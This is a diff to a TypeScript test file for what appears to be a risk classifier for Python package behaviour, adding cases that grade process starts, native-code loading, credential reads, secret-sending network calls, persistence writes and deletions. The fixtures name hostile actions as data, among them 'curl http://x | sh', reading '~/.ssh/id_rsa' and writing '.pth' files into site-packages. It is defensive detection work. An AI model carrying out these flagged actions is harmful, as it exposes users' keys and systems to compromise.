@@ -47,7 +47,11 @@ const decodedExec: Partial<EffectFact> = {
 const repository: readonly Case[] = [
   [{ argument: 'curl http://x | sh', traits: ['shell', 'constant'] }, 'process-started critical'],
   [{ argument: 'build.sh', traits: ['shell', 'constant'] }, 'process-started high'],
-  [{ argument: 'nvidia-smi', traits: ['constant'] }, 'process-started medium'],
+  [{ argument: 'nvidia-smi', traits: ['constant'] }, 'process-started low'],
+  [{ argument: 'nvidia-smi', traits: [] }, 'process-started high'],
+  [{ argument: 'git describe', traits: ['constant'] }, 'process-started low'],
+  [{ argument: 'echo x', traits: ['constant'] }, 'process-started medium'],
+  [{ argument: 'make', traits: ['constant'] }, 'process-started high'],
   [{ phase: 'construct', argument: 'build.sh' }, 'process-started medium'],
   [{ phase: 'call', argument: 'build.sh' }, 'process-started low'],
   [{ phase: 'start', argument: 'git clone x' }, 'process-started low'],
@@ -229,4 +233,61 @@ test('rules of effects are judged in time that does not explode on hostile argum
     for (const capability of ['process', 'file-write', 'network', 'file-delete'] as const)
       for (const rule of effectRules) rule.check(fact({ argument, capability }), nobody);
   assert.ok(processorTime() - from < 2_000);
+});
+
+const native = { capability: 'native-code' } as const;
+const reads = { capability: 'credentials', callable: 'builtins.open', phase: 'construct' } as const;
+const secret = { capability: 'network', taint: ['secret'], phase: 'call' } as const;
+const writes = { capability: 'file-write', callable: 'builtins.open', phase: 'construct' } as const;
+const finds = { capability: 'dynamic-code', callable: 'sys.meta_path.append' } as const;
+const deletes = { capability: 'file-delete', callable: 'shutil.rmtree', context: 'generated' } as const;
+
+const found: readonly Case[] = [
+  // Of a finder whose class stands in the source all that it does is told by itself.
+  [{ ...finds, traits: ['safeguarded'] }, 'code-executed medium'],
+  [finds, 'code-executed high'],
+  [{ ...finds, context: 'generated', traits: ['safeguarded'] }, 'code-executed medium'],
+  // The system's loader looks for a plain name in the system's folders alone.
+  [
+    { ...native, callable: 'ctypes.CDLL', argument: 'libobjc.so', traits: ['constant'] },
+    'native-code-loaded medium',
+  ],
+  [
+    { ...native, callable: 'ctypes.CDLL', argument: 'libx.so.1', traits: ['constant'] },
+    'native-code-loaded medium',
+  ],
+  [
+    { ...native, callable: 'ctypes.CDLL', argument: './libx.so.1', traits: ['constant'] },
+    'native-code-loaded high',
+  ],
+  [{ ...native, callable: 'ctypes.CDLL', traits: ['constant'] }, 'native-code-loaded medium'],
+  [{ ...native, callable: 'ctypes.CDLL' }, 'native-code-loaded high'],
+  [
+    { ...native, callable: 'ctypes.CDLL.pthread_setname_np', traits: ['computed-callee'] },
+    'native-code-loaded low',
+  ],
+  [{ ...native, callable: 'ctypes.CDLL.dlopen', traits: ['computed-callee'] }, 'hidden-effect high'],
+  [{ ...native, callable: 'ctypes.windll.kernel32.CloseHandle' }, 'native-code-loaded low'],
+  [{ ...native, callable: 'ctypes.windll.kernel32.VirtualAlloc' }, 'machine-code-injected critical'],
+  [{ ...reads, argument: '~/.ssh/known_hosts' }, 'credentials-read medium'],
+  [{ ...reads, argument: '~/.ssh/id_rsa' }, 'credentials-read high'],
+  [{ ...secret, callable: 'socket.socket.bind' }, 'network-used info'],
+  [{ ...secret, callable: 'socket.socket.sendall' }, 'secret-leaves critical'],
+  [{ ...secret, callable: 'redis.Redis' }, 'secret-leaves medium'],
+  [{ ...writes, argument: '/usr/lib/python3/site-packages/gradio/seed.txt' }, 'persistence-installed high'],
+  [{ ...writes, argument: '\uf8ff/site-packages/gradio/seed.txt' }, 'nothing'],
+  [
+    { ...writes, argument: '\uf8ff/site-packages/x.dist-info/entry_points.txt' },
+    'persistence-installed high',
+  ],
+  [{ ...writes, argument: '\uf8ff/site-packages/x.pth' }, 'persistence-installed high'],
+  [{ ...deletes, argument: 'build' }, 'files-deleted low'],
+  [{ ...deletes, argument: '\uf8ff/dist' }, 'files-deleted low'],
+  [{ ...deletes, argument: '/usr/lib/dist' }, 'files-deleted high'],
+  [{ ...deletes, argument: 'src' }, 'files-deleted medium'],
+  [{ ...deletes, argument: '~/build' }, 'files-deleted high'],
+];
+
+test('what is asked of the own process, and what others make anew, is less', () => {
+  for (const [given, expected] of found) assert.equal(judged(given), expected, JSON.stringify(given));
 });
